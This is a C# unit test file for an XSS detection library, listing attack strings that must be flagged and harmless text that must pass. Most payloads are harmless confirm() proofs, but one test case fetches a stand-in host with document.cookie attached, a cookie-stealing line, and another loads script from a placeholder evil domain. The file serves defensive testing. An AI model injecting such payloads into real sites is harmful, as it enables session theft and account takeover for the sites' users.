using InfiniteSecurity.Detection;
using static InfiniteSecurity.Detection.UnitTests.DetectionAssertions;

namespace InfiniteSecurity.Detection.UnitTests;

[TestFixture]
public sealed class XssDetectionTests
{
    [TestCase("<svg onload=confirm(document.domain)>")]
    [TestCase("<svg/onload=confirm(9)")]
    [TestCase("<details open ontoggle=print()>")]
    [TestCase("<IMG SRC=# OnError=prompt(8)>")]
    public void Event_handler_attributes_are_detected(string input) => AssertDetectedAs(input, ThreatCategory.Xss);

    [TestCase("<script src=//cdn.evil.test/x.js></script>")]
    [TestCase("<ScRiPt>fetch('//e.test?c='+document.cookie)</ScRiPt>")]
    public void Script_elements_are_detected(string input) => AssertDetectedAs(input, ThreatCategory.Xss);

    [TestCase("<a href=\"jav&#x09;ascript:confirm(2)\">x</a>")]
    [TestCase("<iframe src=\"javascript:top.confirm(3)\"></iframe>")]
    [TestCase("<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>")]
    [TestCase("<iframe srcdoc=\"&lt;img src=x onerror=confirm(4)&gt;\"></iframe>")]
    public void Dangerous_url_schemes_and_srcdoc_are_detected(string input) => AssertDetectedAs(input, ThreatCategory.Xss);

    [TestCase("';confirm(5);//")]
    [TestCase("\"-prompt(6)-\"")]
    [TestCase("</script><svg onload=confirm(7)>")]
    public void Javascript_string_breakouts_are_detected(string input) => AssertDetectedAs(input, ThreatCategory.Xss);

    [TestCase("%3Csvg%20onload%3Dconfirm(1)%3E")]
    [TestCase("&lt;svg onload=confirm(1)&gt;")]
    [TestCase("\uFF1Csvg onload=confirm(1)\uFF1E")]
    public void Encoded_markup_is_detected_in_a_decoded_view(string input) => AssertDetectedAs(input, ThreatCategory.Xss);

    [TestCase("Use <b>bold</b> and <i>italic</i>")]
    [TestCase("Jane Doe <jane@example.org>")]
    [TestCase("Features from the rust language in javascript: traits and more")]
    [TestCase("Tall plugin for <meta name=\"viewport\"> handling")]
    [TestCase("if a < b and c > d then swap")]
    public void Harmless_markup_and_prose_stay_benign(string input) => AssertBenign(input);
}
